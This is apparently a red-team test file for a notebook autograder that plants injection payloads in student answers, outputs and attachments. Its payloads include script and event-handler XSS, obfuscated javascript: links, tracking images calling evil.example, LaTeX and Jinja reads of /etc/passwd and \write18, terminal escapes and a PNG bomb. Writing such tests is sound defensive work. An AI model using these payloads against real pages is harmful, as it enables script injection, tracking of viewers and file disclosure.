"""Attacks on whoever looks: markup, formulas, links and pictures in answers, outputs, names and exceptions."""

from functools import partial

from nbformat.v4 import new_markdown_cell, new_raw_cell

from tests.redteam import register

attack = partial(register.attack, stock="not run: it is after the page, not after points")


@attack("page")
def scripts(sheet):
    """Scripts in outputs, texts, names and exceptions wait for the instructor's browser."""
    evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    sheet.add("quadratic", f"{evil}\n\n[go](javascript:alert(1))", new_markdown_cell)
    sheet.add("quadratic", evil, new_raw_cell)
    return sheet.answer(
        words=f"My answer {evil}",
        quadratic=(
            "from IPython.display import HTML, Javascript, SVG, Latex, display\n"
            f"evil = {evil!r}\n"
            "for kind in (HTML, Javascript, Latex): display(kind(evil))\n"
            "svg = f'<svg onload=alert(1)>{evil}</svg>'\n"
            "display({'text/html': evil, 'text/markdown': evil, 'image/svg+xml': svg}, raw=True)\n"
            "print(evil)\nevil_name = type(evil, (Exception,), {})\n"
            "def quadratic(A, b, w):\n    print(evil)\n    raise evil_name(evil)"
        ),
        condition_number="raise evil_name(evil)",
        newton_step="def newton_step(grad, hess, w):\n    return evil",
    )


LINKS = r"""
[a](javascript\:alert(1)) [b](java&#115;cript:alert(1)) [c](JaVaScRiPt&colon;alert(1)) [d]( javascript:alert(1))
[e](\javascript:alert(1)) [f](<javascript:alert(1)>) <javascript:alert(1)> [g](data:text/html;base64,PHNjcmlwdD4=)
[h][evil] [i](vbscript\:x) [j](&#x6a;avascript:alert(1)) [k](java
script:alert(1)) ![l](javascript:alert(1)) [m](javascript&NewLine;:alert(1)) [n](data\:text/html,x)
[o](//evil.example/x) [p](file\:///etc/passwd) [q](%6aavascript:alert(1)) [r]("onclick=alert(1) ")

[evil]: javascript\:alert(1) "title\" onmouseover=alert(1)"
"""


@attack("page")
def links_that_act(sheet):
    """Links whose address is a program, spelled with entities, escapes, blanks, cases and references."""
    sheet.add("words", LINKS, new_markdown_cell)
    return sheet.answer(words=LINKS)


@attack("page")
def pictures_that_call_home(sheet):
    """Pictures and fonts from elsewhere tell their server who looked at the answer, and when."""
    answer = """
    ![a](https://evil.example/track.png) ![b](//evil.example/x.gif) ![c][ref] <img src="https://evil.example/y">
    ![d](/shutdown) ![e](../../api/contents) $\\bbox[background:url(https://evil.example/z)]{x}$
    [![f](http://evil.example/w.png)](http://evil.example)

    [ref]: https://evil.example/ref.png
    """
    sheet.add("words", answer, new_markdown_cell)
    return sheet.answer(words=answer)


@attack("page")
def formulas_that_act(sheet):
    """Formulas that load extensions, set links and styles, include files, or cover the page."""
    answer = r"""
    $\href{javascript:alert(1)}{x}$ $\require{action}\toggle{a}{b}\endtoggle$ $\style{position:fixed;top:0}{x}$
    $\class{evil}{x}$ $\cssId{evil}{x}$ $\bbox[position:fixed;top:0;left:0;width:100%;height:100%]{x}$
    $\unicode[font-family:url(x)]{x}$ $\htmlData{x=y}{z}$ $\HREF{x}{y}$ \input{/etc/passwd} \write18{id}
    $\def\x{\x\x}\x$ $\mmlToken{mi}[onclick="alert(1)"]{x}$ $\text{<img src=x onerror=alert(1)>}$
    """
    sheet.add("words", answer, new_markdown_cell)
    return sheet.answer(
        words=answer, quadratic=f"from IPython.display import Latex, display\ndisplay(Latex({answer!r}))"
    )


@attack("page")
def templates_and_comments(sheet):
    """Jinja expressions, HTML comments, CDATA, style sheets, frames and forms in answers, outputs and names."""
    evil = (
        "{{ 7*191 }} {% include '/etc/passwd' %} {# x #} <!-- x --> <![CDATA[x]]> <style>*{display:none}</style>"
        "<iframe src=//evil.example></iframe><form action=//evil.example><input name=p></form><base href=//evil.example>"
        "<meta http-equiv=refresh content=0> <svg/onload=alert(1)> <math><mtext></mtext></math> <details open ontoggle=alert(1)>"
        "<\u0073cript>alert(1)</script> <a\thref=x> <x-y onclick=alert(1)>"
    )
    sheet.add("words", evil, new_markdown_cell)
    return sheet.answer(words=evil, quadratic=f"print({evil!r})\nraise ValueError({evil!r})")


@attack("page")
def terminal_in_the_text(sheet):
    """Terminal sequences, links of OSC 8, title changes, backspaces, bells and text that runs from right to left."""
    evil = "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]0;title\x07 \x1b[2J\x08\x08\x07 \u202egnp.evil\u2066 \x9b31m"
    return sheet.answer(
        words=evil.replace("\x1b", "&#27;"),
        quadratic=f"evil = {evil!r}\nprint(evil)\nimport sys\nprint(evil, file=sys.stderr)\nraise KeyError(evil)",
        softmax="def softmax(x):\n    print(evil)\n    raise ValueError(evil)",
    )


@attack("page")
def attachments_that_are_more(sheet):
    """Attachments are SVG, HTML, bombs and polyglots, named after paths and scripts."""
    cell = sheet.cell("words")
    cell.source = "![x](attachment:evil.svg) ![y](attachment:../../gradebook.png) ![z](attachment:bomb.png)"
    cell["attachments"] = {
        "evil.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"},
        "../../gradebook.png": {"image/png": "iVBORw0KGgo="},
        "<script>alert(1)</script>.png": {"text/html": "<script>alert(1)</script>"},
        "bomb.png": {"image/png": "iVBORw0KGgoAAAANSUhEUgD//////wgAAAAA" + "A" * 100},
        "x": "alert(1)",
        "y": {"image/png": ["a", 1, None]},
    }
    return sheet


@attack("page")
def mimes_that_act(sheet):
    """Widgets, Vega, Plotly, GeoJSON, notebooks in notebooks and isolated frames are displayed."""
    kinds = (
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.vegalite.v5+json",
        "application/vnd.plotly.v1+json",
        "application/geo+json",
        "application/pdf",
        "text/html",
        "image/svg+xml",
        "video/mp4",
    )
    shown = {kind: {"model_id": "<script>alert(1)</script>"} for kind in kinds}
    source = f"from IPython.display import display\ndisplay({shown!r}, raw=True, metadata={{'isolated': True}})"
    return sheet.answer(quadratic=source)
